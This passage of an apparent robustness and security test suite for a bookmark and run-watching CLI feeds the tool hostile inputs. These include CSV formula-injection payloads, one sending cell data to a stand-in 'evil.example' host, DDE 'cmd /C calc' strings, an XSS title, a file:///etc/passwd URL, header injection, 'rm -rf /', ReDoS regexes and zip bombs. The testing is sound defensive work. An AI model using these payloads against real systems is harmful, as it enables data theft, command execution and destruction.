            box.expect(exported, 0)
            # A file format, not a terminal's text: CSV ends its records with CRLF (RFC 4180).
            box.clean(exported.out.replace(b"\r\n", b"\n"), f"export {kind}", json_output=True)
            if kind == "html" and (b"<script" in exported.out.lower() or b"<img" in exported.out.lower()):
                box.fail("export html carries markup from a title")
    add_case("text", f"bookmark title, folder, tag, note: {label}", run)


for _label, _payload in HOSTILE.items():
    _hostile_file_name(_label, _payload)
    _hostile_log_line(_label, _payload)
    _hostile_run_name(_label, _payload)
    _hostile_bookmark(_label, _payload)
for _label in ("osc52", "osc2", "newline", "rtl"):
    _hostile_dir_name(_label, HOSTILE[_label])

_hostile_bookmark("HTML in a title", "<script>alert(1)</script><img src=x onerror=alert(1)>")
_hostile_file_name("invalid UTF-8 byte", "bad\udcffname\udc9b2J")


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
            "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!'A1'", "\uff1d1+1"]


@case("text", "CSV export of formula titles, notes and tags")
def _formulas(box: Sandbox) -> None:
    rows = [["url", "title", "note", "tags"]]
    rows += [[f"https://example.org/{n}", f, f, f.replace(",", "")] for n, f in enumerate(FORMULAS)]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    box.expect(box.cli("import", box.write("f.csv", buffer.getvalue())), 0)
    for n, formula in enumerate(FORMULAS):
        box.cli("add", "--no-fetch", "-n", formula, "-t", formula.replace(",", ""), f"https://example.net/{n}")
    exported = box.cli("export", "-", "--format", "csv")
    box.expect(exported, 0)
    for row in list(csv.reader(io.StringIO(exported.out.decode(), newline="")))[1:]:
        for cell in row[1:]:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                box.fail(f"a cell a spreadsheet runs as a formula: {cell[:40]!r}")
                return
    box.write("out.csv", exported.out)
    again = Sandbox(box.dir, "reimport")
    back = again.cli("import", again.write("back.csv", exported.out))
    again.expect(back, 0)
    titles = {item["title"] for item in map(json.loads, again.cli("backlog", "--json", "--status", "all").out.splitlines())}
    lost = [f for f in FORMULAS if f.strip() not in {t.strip() for t in titles}]
    if lost:
        box.fail(f"a title did not read back the same after export and import: {lost[0]!r}")


class PageServer:
    """127.0.0.1 HTTP server giving one page for every GET."""

    def __init__(self, body: bytes, content_type: str = "text/html; charset=utf-8") -> None:
        import http.server

        page = body

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", content_type)
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            def log_message(self, *args) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _hostile_page(label: str, payload: str) -> None:
    def run(box: Sandbox) -> None:
        escaped = payload.replace("&", "&amp;").replace("<", "&lt;")
        page = (f"<html><head><title>t{escaped}</title><meta name=description content='d{escaped}'>"
                f"<meta property='og:title' content='og{escaped}'></head><body>{'word ' * 500}{escaped}</body></html>")
        server = PageServer(page.encode("utf-8"))
        try:
            box.config.write_text("")  # fetch on
            added = box.cli("add", f"{server.url}/page")
            box.clean(added.out + added.err, "add (fetched title)")
            listed = box.cli("backlog")
            box.clean(listed.out, "backlog after fetch")
            if len(listed.out.splitlines()) != 1:
                box.fail(f"backlog printed {len(listed.out.splitlines())} lines for 1 item")
            box.clean(box.cli("backlog", "--json").out, "backlog --json", json_output=True)
        finally:
            server.close()
    add_case("text", f"fetched page title (127.0.0.1): {label}", run)


for _label in ("osc52", "osc2", "c1csi", "newline", "rtl"):
    _hostile_page(_label, HOSTILE[_label])


@case("text", "hostile import file name in its error message")
def _import_name(box: Sandbox) -> None:
    path = box.write(f"x{OSC2}{FAKE_LINE}.html", b"\x7fELF\x02\x01\x01" + os.urandom(1000))
    result = box.cli("import", path)
    box.expect(result, 2, one_line=True)
    box.clean(result.err, "import error")


@case("text", "hostile FIFO name in watch's refusal")
def _fifo_name(box: Sandbox) -> None:
    path = box.path(f"f{OSC52}{FAKE_LINE}.log")
    os.mkfifo(path)
    result = box.cli("watch", "--json", path)
    box.expect(result, 2, one_line=True)
    box.clean(result.err, "watch error")


@case("text", "hostile config value and key echoed in a config error")
def _config_echo(box: Sandbox) -> None:
    box.config.write_text(f'[ui]\ntheme = "{json.dumps(OSC2)[1:-1]}"\n"k{json.dumps(OSC52)[1:-1]}" = 1\n'
                          f'layout = "{json.dumps(FAKE_LINE)[1:-1]}"\n')
    result = box.cli("config", "check")
    box.expect(result, 2)
    box.clean(result.err, "config check")


# --- config --------------------------------------------------------------------------------------


BACKTRACKING_LINES = "".join(line + "\n" for line in (
    "a" * 40 + "!", "a " * 40 + "!", "abc" * 30 + "!", "ab" * 30 + "!", "x y " * 20 + "!", "aa" * 30 + "=!"))


def config_case(name: str, text: str | bytes, *, rc=(2,), located: bool = True, commands=(("config", "check"),),
                within: float = 10.0, max_mb: float = 300, heavy: bool = False, hostile_log: bool = False) -> None:
    def run(box: Sandbox) -> None:
        box.config.write_bytes(text.encode("utf-8", "surrogateescape") if isinstance(text, str) else text)
        if hostile_log:  # lines that make a backtracking pattern take exponential time, if one got through
            result = box.cli("status", box.write("bt.log", "step 1/10 loss=0.5\n" + BACKTRACKING_LINES))
            box.expect(result, (0, 2), within=within)
        for command in commands:
            result = box.cli(*command, max_mb=max_mb)
            box.expect(result, rc, within=within)
            if result.rc == 2:
                err = result.err.decode("utf-8", "replace")
                if located and not re.search(re.escape(str(box.config)) + r":\d+", err):
                    box.fail("the error does not say file:line")
                if not err.strip():
                    box.fail("exit 2 without a reason")
        result = box.cli("run", "--log", box.path("r.log"), "--", "sh", "-c", "exit 3")
        box.expect(result, 3)
    add_case("config", name, run, heavy=heavy)


BOTH = (("config", "check"), ("status", "--json"), ("keys",))
config_case("unclosed string", '[ui]\ntheme = "nord\n', commands=BOTH)
config_case("missing value", "[runs]\nstall_minutes =\n")
config_case("duplicate key", "[runs]\nstall_minutes = 5\nstall_minutes = 6\n")
config_case("duplicate table", "[runs]\n[runs]\n")
config_case("invalid escape", '[ui]\ntheme = "\\q"\n')
config_case("bare carriage return", "[ui]\rtheme = 'x'\n")
config_case("binary junk", os.urandom(4096).replace(b"\n", b" "), located=False, commands=BOTH)
config_case("invalid UTF-8", b'[ui]\ntheme = "\xff\xfe"\n', located=False)
config_case("UTF-16 file", '[ui]\ntheme = "nord"\n'.encode("utf-16"), located=False)
config_case("UTF-8 BOM before a good config", b'\xef\xbb\xbf[ui]\ntheme = "nord"\n', rc=(0, 2), located=False)
config_case("NUL inside the file", b"[ui]\x00\ntheme = 'nord'\n", located=False)
config_case("string for a number", '[runs]\nstall_minutes = "ten"\n', commands=BOTH)
config_case("number for a boolean", "[alerts]\nbell = 1\n")
config_case("list for a string", "[ui]\ntheme = ['nord']\n")
config_case("table for a value", "[ui]\ntheme = {a = 1}\n")
config_case("value for a table", "ui = 3\n")
config_case("array of tables for a table", "[[ui]]\ntheme = 'nord'\n")
config_case("stall_minutes 0", "[runs]\nstall_minutes = 0\n")
config_case("stall_minutes negative", "[runs]\nstall_minutes = -5\n")
config_case("stall_minutes nan", "[runs]\nstall_minutes = nan\n", commands=BOTH)
config_case("stall_minutes inf", "[runs]\nstall_minutes = inf\n")
config_case("stall_minutes 1e308", "[runs]\nstall_minutes = 1e308\n")
config_case("poll_seconds 0", "[runs]\npoll_seconds = 0\n")
config_case("poll_seconds 1e-300", "[runs]\npoll_seconds = 1e-300\n")
config_case("milestones 150 percent", "[alerts]\nmilestones = [50, 150]\n")
config_case("milestones nan and strings", "[alerts]\nmilestones = [nan, 'x']\n")
config_case("words_per_minute 2**70", f"[backlog]\nwords_per_minute = {2**62}\n")
config_case("bankruptcy_days -9223372036854775808", "[backlog]\nbankruptcy_days = -9223372036854775808\n")
config_case("integer past 64 bits", "[backlog]\nbankruptcy_days = 99999999999999999999999\n")
config_case("eta_reminder_minutes -inf", "[alerts]\neta_reminder_minutes = -inf\n")
config_case("arrays nested 100,000 deep", "a = " + "[" * 100_000 + "]" * 100_000 + "\n", located=False, commands=BOTH)
config_case("inline tables nested 50,000 deep", "a = " + "{b = " * 50_000 + "1" + "}" * 50_000 + "\n",
            located=False, commands=BOTH)
config_case("dotted key 20,000 deep", "a" + ".a" * 20_000 + " = 1\n", located=False, heavy=True)
config_case("table header 20,000 deep", "[a" + ".a" * 20_000 + "]\n", located=False)
config_case("50 MB config of comments", ("#" + "x" * 1000 + "\n") * 50_000 + "[ui]\ntheme = 'nord'\n",
            rc=(0,), located=False, heavy=True)
config_case("10 MB theme string", "[ui]\ntheme = '" + "x" * 10 * MB + "'\n")
config_case("unknown key with a typo", "[ui]\nthem = 'nord'\n")
config_case("unknown table", "[uii]\ntheme = 'nord'\n")
config_case("unknown theme", "[ui]\ntheme = 'nordd'\n")
config_case("layout not one of the choices", "[ui]\nlayout = 'wide'\n", commands=BOTH)
config_case("every problem at once (40 bad keys)", "[ui]\n" + "".join(f"k{n} = {n}\n" for n in range(40)), located=True)


def _format(pattern: str, samples: str = '["ab1 aab2 x=3 yz4 step 1/2"]', name: str = "mine") -> str:
    return f"[[runs.formats]]\nname = {json.dumps(name)}\npattern = '{pattern}'\nsamples = {samples}\n"


for _label, _pattern in {
    "(a+)+b": r"^(a+)+b(?P<loss>\d)",
    "(a|a)*b": r"(a|a)*b(?P<loss>\d)",
    "(a|aa)+$": r"(a|aa)+$(?P<loss>\d)",
    "(.*a){25}": r"(.*a){25}(?P<loss>\d)",
    "(\\w+\\s?)+=": r"(\w+\s?)+=(?P<loss>\d)",
    "(a*)*\\1": r"(a*)*\1(?P<loss>\d)",
    "nested lookahead repeats": r"((?=a)a+)+b(?P<loss>\d)",
    "([a-z]+)*[0-9]{2}": r"([a-z]+)*[0-9]{2}(?P<loss>\d)",
}.items():
    config_case(f"catastrophic [[runs.formats]] regex {_label}", _format(_pattern), commands=BOTH, hostile_log=True)

config_case("regex that does not compile", _format("step (?P<done>\\d+"), commands=BOTH)
config_case("regex repetition too large", _format("a{4294967296}(?P<loss>\\d)"))
config_case("regex without named groups", _format("step \\d+"), rc=(0, 2), located=False)
config_case("regex with 5,000 groups", _format("".join(f"(?P<g{n}>x)?" for n in range(5000)) + "(?P<loss>\\d)"),
            rc=(0, 2), located=False)
config_case("regex matching the empty string", _format("(?P<loss>\\d*)"), rc=(0, 2), located=False)
config_case("sample that does not match", _format("step (?P<done>\\d+)/(?P<total>\\d+)", '["nothing here"]'))
config_case("samples not a list", _format("step (?P<done>\\d+)", '"step 1"'))
config_case("no samples", "[[runs.formats]]\nname = 'x'\npattern = 'step (?P<done>\\d+)'\n")
config_case("1,000 formats", "".join(_format("step (?P<done>\\d+)/(?P<total>\\d+)", '["step 1/2"]', f"f{n}")
                                     for n in range(1000)), rc=(0, 2), located=False, within=15)
config_case("format name with escapes", _format("step (?P<done>\\d+)", '["nope"]', name="n\x1b]2;x\x07"))
config_case("keymap: unknown id", "[keymap]\nquitt = 'x'\n", commands=BOTH)
config_case("keymap: key bound twice in one area", "[keymap]\nmark-done = 'x'\ndelete-item = 'x'\n")
config_case("keymap: empty key", "[keymap]\nquit = ''\n")
config_case("keymap: nonsense key names", "[keymap]\nquit = 'ctrl+,,+,ctrl+alt+super+hyper+meta+'\n", rc=(0, 2),
            located=False)
config_case("keymap: a number", "[keymap]\nquit = 5\n")
config_case("keymap: 100,000 keys", "[keymap]\nquit = '" + ",".join(f"f{n}" for n in range(100_000)) + "'\n",
            rc=(0, 2), located=False)
config_case("alert URL file://", "[alerts.webhook]\nurl = 'file:///etc/passwd'\n")
config_case("alert URL without a host", "[alerts.ntfy]\nserver = 'http://'\ntopic = 'x'\n")
config_case("alert URL broken IPv6", "[alerts.webhook]\nurl = 'http://[::1'\n")
config_case("alert URL port out of range", "[alerts.webhook]\nurl = 'http://127.0.0.1:99999/x'\n", rc=(0, 2), located=False)
config_case("alert URL with a newline", '[alerts.webhook]\nurl = "http://127.0.0.1/a\\nHost: evil"\n')
config_case("alert command not a list", "[alerts]\ncommand = 'rm -rf /'\n")


def _config_special(name: str, target: Callable[[Sandbox], Path], via_flag: bool, heavy: bool = False) -> None:
    def run(box: Sandbox) -> None:
        path = target(box)
        if via_flag:
            result = box.cli("--config", path, "config", "check")
        else:
            result = box.cli("config", "check", env={"WAITBUDDY_CONFIG": str(path)})
        box.expect(result, 2, one_line=True, within=10)
        launched = box.cli("run", "--log", box.path("r.log"), "--", "sh", "-c", "exit 4",
                           env={"WAITBUDDY_CONFIG": str(path)})
        box.expect(launched, 4, within=10)
    add_case("config", name, run, heavy=heavy)


_config_special("config is /dev/zero (--config)", lambda box: Path("/dev/zero"), True, heavy=True)
_config_special("config is /dev/urandom (WAITBUDDY_CONFIG)", lambda box: Path("/dev/urandom"), False, heavy=True)
_config_special("config is a FIFO", _fifo, False)
_config_special("config is a directory", lambda box: box.work, True)
_config_special("config missing (--config)", lambda box: box.path("nope.toml"), True)


# --- storage -------------------------------------------------------------------------------------


def _locker(path: Path, mode: str = "IMMEDIATE") -> subprocess.Popen:
    """Another process holding a write transaction (or an exclusive lock) on the database."""
    code = ("import sqlite3, sys, time\n"
            f"c = sqlite3.connect({str(path)!r}, isolation_level=None)\n"
            + ("c.execute('PRAGMA locking_mode = EXCLUSIVE')\n" if mode == "EXCLUSIVE" else "")
            + f"c.execute('BEGIN {'EXCLUSIVE' if mode == 'EXCLUSIVE' else 'IMMEDIATE'}')\n"
            "c.execute(\"INSERT INTO settings (key, value) VALUES ('locker', 'x')\")\n"
            "print('locked', flush=True)\ntime.sleep(60)\n")
    process = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, start_new_session=True)
    process.stdout.readline()
    return process


def _stop(process: subprocess.Popen) -> None:
    with contextlib.suppress(ProcessLookupError):
        os.killpg(process.pid, signal.SIGKILL)
    process.wait()


def locked_case(name: str, args: Callable[[Sandbox], list], rc, *, mode: str = "IMMEDIATE") -> None:
    def run(box: Sandbox) -> None:
        urls = box.seed()
        locker = _locker(box.db, mode)
        try:
            result = box.cli(*args(box), timeout=25)
        finally:
            _stop(locker)
        box.expect(result, rc, within=15)
        if result.rc == 2:
            box.expect(result, 2, one_line=True)
        box.intact(urls, runs=1)
    add_case("storage", f"{'exclusively ' if mode == 'EXCLUSIVE' else ''}locked database: {name}", run, slow=True)


def _bookmarks_json(box: Sandbox, count: int = 50, name: str = "b.json") -> Path:
    return box.write(name, json.dumps([{"url": f"https://import.example.org/{n}", "title": f"t{n}"} for n in range(count)]))


locked_case("add", lambda box: ["add", "--no-fetch", "https://example.org/new"], 2)
locked_case("import", lambda box: ["import", _bookmarks_json(box)], 2)
locked_case("watch --json --remember", lambda box: ["watch", "--json", "--remember", "--until-done", "--pid",
                                                    str(dead_pid()), box.write("l.log", PROGRESS)], 2)
locked_case("runs (a reader)", lambda box: ["runs"], 0)
locked_case("backlog (a reader)", lambda box: ["backlog"], 0)
locked_case("export (a reader)", lambda box: ["export", "-", "--format", "json"], 0)
locked_case("status of the stored runs", lambda box: ["status"], 0)
locked_case("runs", lambda box: ["runs"], (0, 2), mode="EXCLUSIVE")
locked_case("add", lambda box: ["add", "--no-fetch", "https://example.org/new"], 2, mode="EXCLUSIVE")


def not_a_db_case(name: str, make: Callable[[Sandbox], None], *, commands=(("runs",), ("add", "--no-fetch",
                  "https://example.org/x"), ("backlog",)), read_rc=(2,), write_rc=(2,), untouched: bool = True) -> None:
    """Something unusable where the database goes: one line and exit 2 (a reader may also find
    nothing there and say so), never a traceback; the file left as it was."""
    def run(box: Sandbox) -> None:
        box.data.mkdir()
        make(box)
        before = _digest(box.db)
        for command in commands:
            result = box.cli(*command)
            box.expect(result, write_rc if command[0] == "add" else read_rc, within=15)
            if result.rc == 2:
                box.expect(result, 2, one_line=True)
        if untouched and before is not None and _digest(box.db) != before:
            box.fail("the file in the database's place was changed")
    add_case("storage", name, run)


def _digest(path: Path) -> str | None:
    import hashlib

    try:
        if not path.is_file():
            return None
        return hashlib.sha256(path.read_bytes()).hexdigest()
    except OSError:
        return None


def _newer_schema(box: Sandbox) -> None:
    box.seed()
    with contextlib.closing(sqlite3.connect(box.db)) as db:
        db.execute("PRAGMA user_version = 99")
        db.commit()


def _corrupt_page(box: Sandbox) -> None:
    box.seed(2000)
    data = bytearray(box.db.read_bytes())
    for offset in range(4096 * 2, min(len(data), 4096 * 6), 7):
        data[offset] = 0xA5
    box.db.write_bytes(bytes(data))


def _truncated_db(box: Sandbox) -> None:
    box.seed(2000)
    data = box.db.read_bytes()
    box.db.write_bytes(data[: len(data) // 3])


def _dropped_table(box: Sandbox) -> None:
    box.seed()
    with contextlib.closing(sqlite3.connect(box.db)) as db:
        db.execute("DROP TABLE items")
        db.commit()


not_a_db_case("database file is random bytes", lambda box: box.db.write_bytes(os.urandom(8192)))
not_a_db_case("database file is text", lambda box: box.db.write_text("hello, I am not a database\n" * 100))
not_a_db_case("database file is a zip", lambda box: box.db.write_bytes(_zip({"a.txt": b"x" * 1000})))
not_a_db_case("database with an SQLite header and junk", lambda box: box.db.write_bytes(
    b"SQLite format 3\x00" + os.urandom(8192)))
not_a_db_case("database from a newer waitbuddy (user_version 99)", _newer_schema)
# SQLite finds a bad page only when a statement reads it: commands that do not may well succeed.
not_a_db_case("database with corrupted index pages", _corrupt_page, read_rc=(0, 2), write_rc=(0, 2), untouched=False)
not_a_db_case("database truncated to a third", _truncated_db)
not_a_db_case("database with its items table dropped", _dropped_table, commands=(("backlog",), ("add", "--no-fetch",
                                                                                                 "https://e.org/x")))
not_a_db_case("a directory where the database goes", lambda box: box.db.mkdir())
not_a_db_case("a FIFO where the database goes", lambda box: os.mkfifo(box.db))
not_a_db_case("database is a symlink to /dev/zero", lambda box: box.db.symlink_to("/dev/zero"))
not_a_db_case("database is a symlink loop", lambda box: box.db.symlink_to(box.db), read_rc=(0, 2))


def data_dir_case(name: str, make: Callable[[Sandbox], str]) -> None:
    def run(box: Sandbox) -> None:
        where = make(box)
        env = {"WAITBUDDY_DATA_DIR": where}
        for command in (("add", "--no-fetch", "https://example.org/x"), ("import", _bookmarks_json(box)),
                        ("runs",), ("backlog",), ("status",)):
            result = box.cli(*command, env=env)
            # A reader may find no database there and say so (exit 0).
            box.expect(result, 2 if command[0] in ("add", "import") else (0, 2), within=10)
            if result.rc == 2:
                box.expect(result, 2, one_line=True)
    add_case("storage", name, run)


data_dir_case("data dir is a regular file", lambda box: str(box.write("file", "x")))
data_dir_case("data dir is /dev/null", lambda box: "/dev/null")
data_dir_case("data dir under a regular file", lambda box: str(box.write("file", "x")) + "/data")
data_dir_case("data dir path longer than PATH_MAX", lambda box: str(box.work / ("d" * 250)) * 20)


@case("storage", "database left with a -wal and -shm of junk")
def _junk_wal(box: Sandbox) -> None:
    urls = box.seed()
    Path(str(box.db) + "-wal").write_bytes(os.urandom(40_000))
    Path(str(box.db) + "-shm").write_bytes(os.urandom(32_768))
    for command in (("runs",), ("backlog",), ("add", "--no-fetch", "https://example.org/after")):
        result = box.cli(*command)
        box.expect(result, (0, 2), within=15)
        if result.rc == 2:
            box.expect(result, 2, one_line=True)
    box.intact(urls, runs=1)


def _private_mount(box: Sandbox, setup: str, command: list, *, timeout: float = 40.0) -> Result:
    """Run `command` in a private mount namespace after the shell lines `setup` (root only)."""
    if os.geteuid() != 0 or not shutil.which("unshare"):
        raise Skip("needs root and unshare for a private mount namespace")
    probe = subprocess.run(["unshare", "-m", "true"], capture_output=True, check=False)
    if probe.returncode != 0:
        raise Skip("unshare -m is not allowed here")
    import shlex

    script = setup + "\nexec " + " ".join(shlex.quote(os.fsdecode(a)) for a in command)
    box.repro.append(f"unshare -m sh -c {shlex.quote(script)}")
    result = spawn(["unshare", "-m", "--propagation", "private", "sh", "-c", script], env=box.env, cwd=str(box.work),
                   timeout=timeout)
    box.last = result
    if result.timed_out:
        box.fail(f"did not end within {timeout:g} s")
    if TRACEBACK in result.err:
        box.fail("a Python traceback on stderr")
    return result


WB = [PYTHON, "-m", "waitbuddy"]


def _read_only_case(name: str, command: Callable[[Sandbox], list], rc) -> None:
    def run(box: Sandbox) -> None:
        urls = box.seed()
        data = str(box.data)
        result = _private_mount(box, f"mount --bind {data} {data} && mount -o remount,ro,bind {data}",
                                [*WB, *command(box)])
        box.expect(result, rc, within=15)
        if result.rc == 2:
            box.expect(result, 2, one_line=True)
        box.intact(urls, runs=1)
    add_case("storage", f"read-only file system: {name}", run)


_read_only_case("add", lambda box: ["add", "--no-fetch", "https://example.org/x"], 2)
_read_only_case("import", lambda box: ["import", _bookmarks_json(box)], 2)
_read_only_case("runs", lambda box: ["runs"], (0, 2))
_read_only_case("backlog --json", lambda box: ["backlog", "--json"], (0, 2))
_read_only_case("watch --remember", lambda box: ["watch", "--json", "--remember", "--until-done", "--pid",
                                                  str(dead_pid()), box.write("l.log", PROGRESS)], 2)


@case("storage", "read-only database file (uid 65534, chmod 444)")
def _read_only_file(box: Sandbox) -> None:
    urls = box.seed()
    box.give_to_nobody()
    box.db.chmod(0o444)
    result = box.cli("add", "--no-fetch", "https://example.org/x", as_nobody=True)
    box.expect(result, 2, one_line=True)
    result = box.cli("runs", as_nobody=True)
    box.expect(result, (0, 2))
    box.intact(urls, runs=1)


def _fsize_case(name: str, command: Callable[[Sandbox], list], seed: int = 200) -> None:
    """RLIMIT_FSIZE just above the database's size: every write past it fails (EFBIG), as on a full disk."""
    def run(box: Sandbox) -> None:
        urls = box.seed(seed)
        import shlex

        blocks = box.db.stat().st_size // 512 + 16  # a few KB of room: then every write fails (EFBIG)
        argv = [*WB, *command(box)]
        script = f"ulimit -f {blocks}; exec " + " ".join(shlex.quote(os.fsdecode(a)) for a in argv)
        box.repro.append(_shorten(f"sh -c {shlex.quote(script)}", 400))
        result = spawn(["sh", "-c", script], env=box.env, cwd=str(box.work), timeout=40)
        box.last = result
        if result.timed_out:
            box.fail("did not end within 40 s")
        if TRACEBACK in result.err:
            box.fail("a Python traceback on stderr")
        box.expect(result, (0, 2), within=15)
        if result.rc == 2:
            box.expect(result, 2, one_line=True)
        box.intact(urls, runs=1)
    add_case("storage", f"disk full (file size limit): {name}", run)


_fsize_case("import of 20,000 bookmarks", lambda box: ["import", _bookmarks_json(box, 20_000)])
_fsize_case("add of 500 links", lambda box: ["add", "--no-fetch", *(f"https://full.example.org/{n}" for n in range(500))])
_fsize_case("watch --remember of 200 logs", lambda box: ["watch", "--json", "--remember", "--until-done",
                                                         *_logs(box, 200)])


def _logs(box: Sandbox, count: int) -> list[Path]:
    return [box.write(f"logs/run{n:04d}-" + "x" * 100 + ".log", FAILED) for n in range(count)]  # they end


@case("storage", "disk full (1 MB tmpfs): import of 20,000 bookmarks")
def _tmpfs_full(box: Sandbox) -> None:
    urls = box.seed(200)
    data, keep = str(box.data), box.dir / "kept"
    keep.mkdir()
    bookmarks = _bookmarks_json(box, 20_000)
    import shlex

    inner = (f"cp -a {data}/. {keep}/ && mount -t tmpfs -o size=1m tmpfs {data} && cp -a {keep}/. {data}/ && "
             f"{shlex.quote(PYTHON)} -m waitbuddy import {shlex.quote(str(bookmarks))}; rc=$?; "
             f"cp {data}/waitbuddy.db {keep}/waitbuddy.db; rm -f {keep}/waitbuddy.db-wal {keep}/waitbuddy.db-shm; "
             f"for f in {data}/waitbuddy.db-wal {data}/waitbuddy.db-shm; do [ -e $f ] && cp $f {keep}/; done; "
             "exit $rc")
    result = _private_mount(box, "", ["sh", "-c", inner])
    box.expect(result, (0, 2), within=20)
    if result.rc == 2:
        box.expect(result, 2, one_line=True)
    if result.rc == 0:
        box.fail("a 20,000-bookmark import fitted in 1 MB: the disk was not full")
    shutil.rmtree(box.data)
    shutil.copytree(keep, box.data)
    box.intact(urls, runs=1)


def _kill_case(name: str, command: Callable[[Sandbox], list], delay: float, *, seed: int = 200,
               then: Callable[[Sandbox], list] | None = None) -> None:
    def run(box: Sandbox) -> None:
        urls = box.seed(seed)
        argv = [*WB, *command(box)]
        process = subprocess.Popen(argv, env=box.env, cwd=box.work, stdout=subprocess.DEVNULL,
                                   stderr=subprocess.DEVNULL, start_new_session=True)
        time.sleep(delay)
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.wait()
        box.repro.append(f"{' '.join(map(os.fsdecode, argv))} & sleep {delay}; kill -9 $!")
        box.intact(urls, runs=1)
        if then is not None:
            again = box.cli(*then(box), timeout=60)
            box.expect(again, 0)
            box.intact(urls, runs=1)
    add_case("storage", name, run, heavy=True)


def _big_import(box: Sandbox) -> list:
    return ["import", _bookmarks_json(box, 60_000, "big.json")]


def _count_after_reimport(box: Sandbox) -> list:
    return ["import", box.path("big.json")]


for _delay in (0.3, 0.6, 0.9, 1.2, 1.6, 2.2):
    _kill_case(f"kill -9 during an import of 60,000 bookmarks at {_delay} s", _big_import, _delay,
               then=_count_after_reimport)
_kill_case("kill -9 during add of 2,000 links at 0.8 s",
           lambda box: ["add", "--no-fetch", *(f"https://k.example.org/{n}" for n in range(2000))], 0.8)
_kill_case("kill -9 during watch --remember of 300 logs at 0.8 s",
           lambda box: ["watch", "--json", "--remember", "--until-done", *_logs(box, 300)], 0.8)


@case("storage", "four imports and ten adds at once", slow=True, heavy=True)
def _concurrent(box: Sandbox) -> None:
    urls = box.seed(200)
    argvs = [[*WB, "import", _bookmarks_json(box, 5000, f"c{n}.json")] for n in range(4)]
    for n in range(4):  # each file its own URLs
        box.write(f"c{n}.json", json.dumps([{"url": f"https://c{n}.example.org/{k}"} for k in range(5000)]))
    argvs += [[*WB, "add", "--no-fetch", f"https://add.example.org/{n}"] for n in range(10)]
    processes = [subprocess.Popen(a, env=box.env, cwd=box.work, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                  start_new_session=True) for a in argvs]
    for process, argv in zip(processes, argvs, strict=True):
        try:
            _, err = process.communicate(timeout=60)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            _, err = process.communicate()
            box.fail(f"{' '.join(map(str, argv[3:5]))} did not end in 60 s")
        if TRACEBACK in err:
            box.fail("a Python traceback on stderr")
        if process.returncode != 0:
            box.fail(f"{' '.join(map(str, argv[3:5]))}: exit {process.returncode}: {err.decode()[:200]!r}")
    expected = urls + [f"https://c{n}.example.org/{k}" for n in range(4) for k in range(5000)]
    expected += [f"https://add.example.org/{n}" for n in range(10)]
    box.intact(expected, runs=1)


# --- import files ------------------------------------------------------------------------------------


def import_case(name: str, make: Callable[[Sandbox], Path], rc=(0, 2), *, one_line_refusal: bool = True,
                within: float = 15.0, memory_factor: float | None = 3.0, heavy: bool = False,
                added: int | None = None) -> None:
    def run(box: Sandbox) -> None:
        urls = box.seed()
        path = make(box)
        size = path.stat().st_size if path.is_file() else 0
        bound = 150 + memory_factor * size / MB if memory_factor is not None else DEFAULT_MEMORY_MB
        result = box.cli("import", path, max_mb=bound, timeout=60)
        box.expect(result, rc, within=within)
        if result.rc == 2 and one_line_refusal:
            box.expect(result, 2, one_line=True)
        if added is not None and f"{added} added".encode() not in result.out:
            box.fail(f"expected '{added} added' in: {result.out[:200]!r}")
        box.clean(result.out + result.err, "import report")
        box.intact(urls, runs=1)
        again = box.cli("import", path, max_mb=bound, timeout=60)
        if again.rc == 0 and re.search(rb"\b[1-9]\d* added", again.out):
            box.fail(f"importing the same file again added items: {again.out[:120]!r}")
    add_case("import", name, run, heavy=heavy)


def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for member, content in members.items():
            archive.writestr(member, content)
    return buffer.getvalue()


def _zip_of_zeros(size: int, name: str = "bookmarks.html") -> bytes:
    """A zip with one member of `size` zero bytes, streamed (never all in memory)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive, \
            archive.open(name, "w", force_zip64=True) as member:
        block = b"\x00" * MB
        for _ in range(size // MB):
            member.write(block)
    return buffer.getvalue()


def _lying_zip(content: bytes, says: int) -> bytes:
    data = bytearray(_zip({"links.txt": content}))
    local, central = data.find(b"PK\x03\x04"), data.find(b"PK\x01\x02")
    data[local + 22:local + 26] = says.to_bytes(4, "little")
    data[central + 24:central + 28] = says.to_bytes(4, "little")
    return bytes(data)


NETSCAPE = "<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<DL><p>\n"
GOOD_HTML = NETSCAPE + "".join(f'<DT><A HREF="https://h.example.org/{n}" ADD_DATE="1700000000">T{n}</A>\n'
                               for n in range(100)) + "</DL><p>\n"
GOOD_CSV = "title,url,time_added,tags,status\n" + "".join(
    f"T{n},https://p.example.org/{n},1700000000,ml,unread\n" for n in range(100))
GOOD_JSON = json.dumps([{"url": f"https://j.example.org/{n}", "title": f"T{n}"} for n in range(100)])


def _f(name: str, content: bytes | str | Callable[[], bytes | str]) -> Callable[[Sandbox], Path]:
    return lambda box: box.write(name, content() if callable(content) else content)


import_case("empty file", _f("empty.html", b""), rc=(0, 2))
import_case("whitespace only", _f("blank.csv", " \n\t\r\n" * 100), rc=(0, 2))
import_case("random binary", _f("random.html", lambda: os.urandom(MB)), rc=2)
import_case("a program (ELF)", lambda box: Path(shutil.copy(os.path.realpath(PYTHON), box.path("prog.html"))), rc=2)
import_case("PNG named .html", _f("img.html", b"\x89PNG\r\n\x1a\n" + os.urandom(5000)), rc=2)
